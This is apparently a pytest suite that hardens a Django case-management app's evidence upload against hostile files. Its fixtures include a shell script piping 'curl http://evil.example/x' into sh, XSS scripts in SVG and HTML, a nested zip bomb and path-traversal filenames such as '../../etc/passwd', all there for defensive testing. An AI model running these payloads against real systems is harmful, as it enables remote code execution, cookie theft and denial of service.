"""Hostile evidence uploads, through the service (`cases.services.evidence_add`) and the staff view.

What the product promises: the type is read from the bytes, never from the name; types outside
EVIDENCE_ALLOWED_TYPES are refused (`evidence_type_forbidden`), files over EVIDENCE_MAX_BYTES are
refused (`evidence_too_large`); a refused upload leaves no file and no row behind; an accepted one is
stored under a fresh random name inside MEDIA_ROOT, the client's name kept only cleaned, as a label.
"""

import gzip
import io
import re
import zipfile
import zlib

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from rumorcases.cases import services as case_services
from rumorcases.cases.models import EvidenceItem
from rumorcases.core.exceptions import EVIDENCE_TOO_LARGE, EVIDENCE_TYPE_FORBIDDEN, INVALID, ApplicationError
from rumorcases.core.models import AuditEvent
from tests.conftest import PNG

EXE = (b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 48
       + b"This program cannot be run in DOS mode.")
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00\x01\x00\x00\x00" + b"\x00" * 40
SHELL = b"#!/bin/sh\ncurl http://evil.example/x | sh\n"
SVG = (b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg">'
       b"<script>alert(1)</script></svg>")
HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
PDF = b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"

BOMB_EXPANDED = 64 * 1024 * 1024  # what the archive below would expand to


def _zip(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


@pytest.fixture(scope="module")
def zip_bomb() -> bytes:
    """A 64 MiB run of zeros in a ~65 KB zip, wrapped once more (a nested bomb)."""
    inner = _zip({"zeros.bin": b"\x00" * BOMB_EXPANDED})
    return _zip({"inner.zip": inner, "readme.png": PNG})


@pytest.fixture
def case(build):
    return build.verifying()


def files_under(root) -> set:
    return {p.relative_to(root) for p in root.rglob("*") if p.is_file()} if root.exists() else set()


def state(root):
    return files_under(root), EvidenceItem.objects.count(), AuditEvent.objects.filter(action="evidence.added").count()


def add(case, by, content, name, **kwargs):
    return case_services.evidence_add(case=case, upload=SimpleUploadedFile(name, content), by=by, **kwargs)


STORED_NAME = re.compile(r"^evidence/\d{4}/\d{2}/[0-9a-f]{32}(\.[a-z0-9]+)?$")


def assert_stored_safely(item, media_root, extension):
    """Stored under the storage's own random name, inside MEDIA_ROOT, with the detected type's extension."""
    assert STORED_NAME.match(item.file.name), item.file.name
    assert item.file.name.endswith(extension)
    path = (media_root / item.file.name).resolve()
    assert path.is_file()
    assert path.is_relative_to(media_root.resolve())


def assert_refused(media_root, before, code, call):
    with pytest.raises(ApplicationError) as refused:
        call()
    assert refused.value.code == code
    assert state(media_root) == before  # no file written, no row, no audit event
    return refused.value


# --- the service: type from the bytes, never from the name ---------------------------------------


@pytest.mark.parametrize(("name", "content", "detected"), [
    ("shot.png", EXE, "application/x-dosexec"),
    ("shot.png", ELF, "application/x-executable"),
    ("shot.png", SHELL, "text/x-shellscript"),
    ("shot.png", SVG, "image/svg+xml"),
    ("shot.png", _zip({"a.txt": b"hello"}), "application/zip"),
    ("shot.png", gzip.compress(b"\x00" * 1024 * 1024), "application/gzip"),
    ("report.pdf", EXE, "application/x-dosexec"),
    ("clip.mp4", ELF, "application/x-executable"),
])
def test_the_service_refuses_forbidden_bytes_whatever_the_name(case, cast, media_root, name, content, detected):
    before = state(media_root)
    error = assert_refused(media_root, before, EVIDENCE_TYPE_FORBIDDEN, lambda: add(case, cast.verifier, content, name))
    assert error.status_code == 415
    assert detected in error.message
    assert error.fields == {"file": [error.fields["file"][0]]}


def test_a_pdf_name_with_png_bytes_is_stored_as_the_png_it_is(case, cast, media_root):
    item = add(case, cast.verifier, PNG, "report.pdf")
    item.refresh_from_db()
    assert item.content_type == "image/png"
    assert item.original_name == "report.pdf"  # kept as a label only
    assert_stored_safely(item, media_root, ".png")


def test_html_named_png_is_stored_as_html_not_as_an_image(case, cast, media_root, client):
    # text/html is an allowed type (web captures): the bytes decide, so it is kept as HTML, under an
    # .html name, and only ever handed out as a sandboxed, non-sniffable download.
    item = add(case, cast.verifier, HTML, "shot.png")
    item.refresh_from_db()
    assert item.content_type == "text/html"
    assert_stored_safely(item, media_root, ".html")
    client.force_login(cast.verifier)
    response = client.get(reverse("staff:evidence_download", args=[case.reference, item.pk]))
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/html")
    assert response["Content-Disposition"].startswith("attachment")
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Security-Policy"] == "sandbox"
    assert b"".join(response.streaming_content) == HTML


def test_an_empty_file_is_refused_and_leaves_nothing(case, cast, media_root):
    before = state(media_root)
    assert_refused(media_root, before, INVALID, lambda: add(case, cast.verifier, b"", "shot.png"))


# --- the service: size -------------------------------------------------------------------------


def test_the_size_cap_is_exact(case, cast, media_root, settings):
    settings.EVIDENCE_MAX_BYTES = len(PNG)
    item = add(case, cast.verifier, PNG, "exact.png")
    assert item.size == len(PNG)
    before = state(media_root)
    error = assert_refused(media_root, before, EVIDENCE_TOO_LARGE,
                           lambda: add(case, cast.verifier, PNG + b"\x00", "one-more.png"))
    assert error.status_code == 413


def test_a_file_lying_about_its_size_is_still_capped_while_read(case, cast, media_root, settings):
    settings.EVIDENCE_MAX_BYTES = 1024

    class Lying(SimpleUploadedFile):
        size = 10  # declares itself tiny; the chunks tell the truth

        def chunks(self, chunk_size=None):
            yield PNG
            for _ in range(1000):
                yield b"\x00" * 512

    before = state(media_root)
    assert_refused(media_root, before, EVIDENCE_TOO_LARGE, lambda: case_services.evidence_add(
        case=case, upload=Lying("shot.png", b""), by=cast.verifier))


def test_an_oversize_file_of_a_forbidden_type_is_refused_for_its_size(case, cast, media_root, settings):
    settings.EVIDENCE_MAX_BYTES = 100
    before = state(media_root)
    assert_refused(media_root, before, EVIDENCE_TOO_LARGE, lambda: add(case, cast.verifier, EXE * 10, "x.png"))


# --- the service: a zip bomb ---------------------------------------------------------------------


def test_a_zip_bomb_is_refused_without_being_decompressed(case, cast, media_root, zip_bomb, monkeypatch):
    assert len(zip_bomb) < BOMB_EXPANDED // 500

    def never(*args, **kwargs):
        raise AssertionError("the upload was decompressed")

    monkeypatch.setattr(zipfile, "ZipFile", never)
    monkeypatch.setattr(zlib, "decompress", never)
    monkeypatch.setattr(zlib, "decompressobj", never)
    monkeypatch.setattr(gzip, "decompress", never)
    before = state(media_root)
    error = assert_refused(media_root, before, EVIDENCE_TYPE_FORBIDDEN,
                           lambda: add(case, cast.verifier, zip_bomb, "evidence.png"))
    assert "application/zip" in error.message


# --- the service: hostile names ------------------------------------------------------------------


@pytest.mark.parametrize(("name", "cleaned"), [
    ("../../etc/passwd", "passwd"),
    ("..\\..\\x.png", "x.png"),
    ("/abs/path.png", "path.png"),
    ("C:\\Windows\\System32\\evil.png", "evil.png"),
    ("evil\x00.png", "evil_.png"),
    ("evil.png\x00.exe", "evil.png_.exe"),
    ("line\nbreak\r.png", "line_break_.png"),
    ("photo\u202egnp.exe", "photo_gnp.exe"),
    ("<script>alert(1)</script>.png", "script_.png"),  # the "/" of "</" is a path separator
    ("<img onerror=alert(1)>.png", "_img onerror_alert_1_.png"),
    ("..", "upload"),
    ("../", "upload"),
    ("...png", "png"),
    ("截图 一.png", "截图 一.png"),
    ("x" * 5000 + ".png", "x" * 200),
])
def test_the_service_cleans_hostile_names_and_never_stores_under_them(case, cast, media_root, name, cleaned):
    item = case_services.evidence_add(case=case, upload=SimpleUploadedFile("shot.png", PNG), by=cast.verifier,
                                      original_name=name)
    item.refresh_from_db()
    assert item.original_name == cleaned
    assert len(item.original_name) <= 200
    assert not set(item.original_name) & {"/", "\\", "\x00", "\n", "\r", "\u202e", "<", ">"}
    assert_stored_safely(item, media_root, ".png")
    assert files_under(media_root) == {(media_root / item.file.name).relative_to(media_root)}
    assert not (media_root.parent / "etc").exists()


def test_a_hostile_name_on_a_forbidden_file_writes_nothing_anywhere(case, cast, media_root, tmp_path):
    before = state(media_root)
    everything = {p for p in tmp_path.rglob("*")}
    assert_refused(media_root, before, EVIDENCE_TYPE_FORBIDDEN, lambda: case_services.evidence_add(
        case=case, upload=SimpleUploadedFile("x.png", ELF), by=cast.verifier, original_name="../../../x.png"))
    assert {p for p in tmp_path.rglob("*")} == everything


# --- the staff view ------------------------------------------------------------------------------


def upload_url(case):
    return reverse("staff:evidence_add", args=[case.reference])


def multipart(filename: str, content: bytes, *, kind="file") -> tuple[bytes, str]:
    """A raw multipart body, so the file name reaches the server exactly as a hostile client sends it
    (the test client would strip it to its basename)."""
    boundary = "----hardening-boundary-7MA4YWxkTrZu0gW"
    disposition = f'form-data; name="file"; filename="{filename}"'.encode()
    body = (f"--{boundary}\r\nContent-Disposition: form-data; name=\"kind\"\r\n\r\n{kind}\r\n".encode()
            + f"--{boundary}\r\n".encode() + b"Content-Disposition: " + disposition + b"\r\n"
            + b"Content-Type: image/png\r\n\r\n" + content + b"\r\n" + f"--{boundary}--\r\n".encode())
    return body, f"multipart/form-data; boundary={boundary}"


def post(client, case, filename, content):
    body, content_type = multipart(filename, content)
    client.cookies["django_language"] = "en"
    return client.post(upload_url(case), data=body, content_type=content_type)


@pytest.fixture
def staff(client, cast):
    client.force_login(cast.verifier)
    return client


@pytest.mark.parametrize(("name", "content", "detected"), [
    ("shot.png", EXE, "application/x-dosexec"),
    ("shot.png", ELF, "application/x-executable"),
    ("shot.png", _zip({"a.txt": b"hello"}), "application/zip"),
    ("report.pdf", SVG, "image/svg+xml"),
    ("../../etc/passwd.png", ELF, "application/x-executable"),
])
def test_the_view_refuses_forbidden_bytes_with_the_error_on_the_form(staff, case, media_root, name, content, detected):
    before = state(media_root)
    response = post(staff, case, name, content)
    assert response.status_code == 200
    errors = response.context["evidence_form"].errors["file"]
    assert any(detected in error for error in errors)
    assert detected in response.content.decode()
    assert state(media_root) == before


def test_the_view_refuses_a_zip_bomb_without_decompressing_it(staff, case, media_root, zip_bomb, monkeypatch):
    def never(*args, **kwargs):
        raise AssertionError("the upload was decompressed")

    monkeypatch.setattr(zipfile, "ZipFile", never)
    monkeypatch.setattr(zlib, "decompressobj", never)
    before = state(media_root)
    response = post(staff, case, "bomb.png", zip_bomb)
    assert response.status_code == 200
    assert any("application/zip" in e for e in response.context["evidence_form"].errors["file"])
    assert state(media_root) == before


def test_the_view_refuses_an_oversize_file_with_the_limit_on_the_form(staff, case, media_root, settings):
    settings.EVIDENCE_MAX_BYTES = 64
    before = state(media_root)
    response = post(staff, case, "big.png", PNG + b"\x00" * 64)
    assert response.status_code == 200
    errors = response.context["evidence_form"].errors["file"]
    assert any("64" in error for error in errors)
    assert state(media_root) == before


def test_the_view_stores_a_pdf_named_png_as_png(staff, case, media_root):
    response = post(staff, case, "report.pdf", PNG)
    assert response.status_code == 302
    item = EvidenceItem.objects.get(case=case)
    assert item.content_type == "image/png" and item.original_name == "report.pdf"
    assert_stored_safely(item, media_root, ".png")


@pytest.mark.parametrize(("name", "cleaned"), [
    ("../../etc/passwd.png", "passwd.png"),
    ("..\\..\\x.png", "x.png"),
    ("/abs/path.png", "path.png"),
    ("..&#47;..&#47;etc&#92;x.png", "x.png"),  # entities are decoded before the path is cut
    # Django's parser drops non-printable characters before the product sees the name.
    ("evil\x00.png", "evil.png"),
    ("photo\u202egnp.png", "photognp.png"),
    ("x" * 700 + ".png", "x" * 200),
])
def test_the_view_stores_hostile_names_only_as_a_cleaned_label(staff, case, media_root, name, cleaned):
    response = post(staff, case, name, PNG)
    assert response.status_code == 302
    item = EvidenceItem.objects.get(case=case)
    assert item.original_name == cleaned
    assert_stored_safely(item, media_root, ".png")
    assert files_under(media_root) == {(media_root / item.file.name).relative_to(media_root)}


@pytest.mark.parametrize("name", ["..", "../..", "/"])
def test_the_view_treats_a_name_of_only_path_parts_as_no_file(staff, case, media_root, name):
    before = state(media_root)
    response = post(staff, case, name, PNG)
    assert response.status_code == 200
    assert response.context["evidence_form"].errors["file"]
    assert state(media_root) == before


def test_the_view_survives_a_newline_in_the_name(staff, case, media_root):
    # A bare LF inside the quoted filename does not end the header line; the parser drops it as
    # non-printable and the product stores the file under its own name.
    response = post(staff, case, "a\nb.png", PNG)
    assert response.status_code == 302
    item = EvidenceItem.objects.get(case=case)
    assert item.original_name == "ab.png"
    assert_stored_safely(item, media_root, ".png")


def test_the_view_answers_400_not_500_for_a_name_too_long_to_parse(staff, case, media_root):
    before = state(media_root)
    response = post(staff, case, "x" * 5000 + ".png", PNG)
    assert response.status_code == 400  # Django's multipart header limit, before any view code
    assert state(media_root) == before
